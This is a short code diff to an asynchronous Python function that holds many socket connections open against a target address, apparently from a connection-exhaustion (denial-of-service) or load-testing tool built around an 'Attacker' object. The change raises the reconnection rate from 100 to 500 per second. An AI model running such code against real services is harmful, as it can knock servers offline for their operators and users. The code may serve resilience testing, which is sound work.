@@ -284,12 +284,12 @@ class _Held(asyncio.Protocol):
 
 
 async def _hold_sockets(attacker: Attacker, address: str, count: int, words: bytes) -> None:
-    """Hold ``count`` connections; replace those that the other side ends, 100 a second at most."""
+    """Hold ``count`` connections; replace those that the other side ends, 500 a second at most."""
     loop, held = asyncio.get_running_loop(), set[_Held]()
     host, _, port = address.rpartition(":")
     try:
         while True:
-            for _ in range(min(count - len(held), 10)):
+            for _ in range(min(count - len(held), 50)):
                 connecting = loop.create_connection(
                     lambda: _Held(words, held), host, int(port), local_addr=(ADDRESS, 0)
                 )
